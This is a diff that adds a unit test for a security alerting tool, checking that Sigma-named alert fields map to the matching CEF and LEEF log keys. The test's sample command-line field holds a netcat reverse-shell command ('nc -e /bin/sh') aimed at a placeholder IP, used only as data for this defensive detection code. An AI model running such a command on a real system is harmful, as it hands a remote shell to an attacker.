@@ -84,3 +84,14 @@ test('LEEF 1.0: escaped header, tab-separated attributes, tabs and line breaks i
   assert.equal(event.attributes.devTime, undefined);
   assert.equal(event.attributes.devTimeFormat, undefined);
 });
+
+test('alert fields under their Sigma names map to the same CEF and LEEF keys as Vigil names', () => {
+  const record = alertRecord({ fields: [{ field: 'CommandLine', value: 'nc -e /bin/sh 192.0.2.9 9001' }, { field: 'User', value: 'alice' }, { field: 'DestinationIp', value: '192.0.2.9' }] });
+  const cef = parseCef(formatCef(record));
+  assert.equal(cef.extension.cs4, 'nc -e /bin/sh 192.0.2.9 9001');
+  assert.equal(cef.extension.suser, 'alice');
+  assert.equal(cef.extension.dst, '192.0.2.9');
+  const leef = parseLeef(formatLeef(record));
+  assert.equal(leef.attributes.commandLine, 'nc -e /bin/sh 192.0.2.9 9001');
+  assert.equal(leef.attributes.usrName, 'alice');
+});
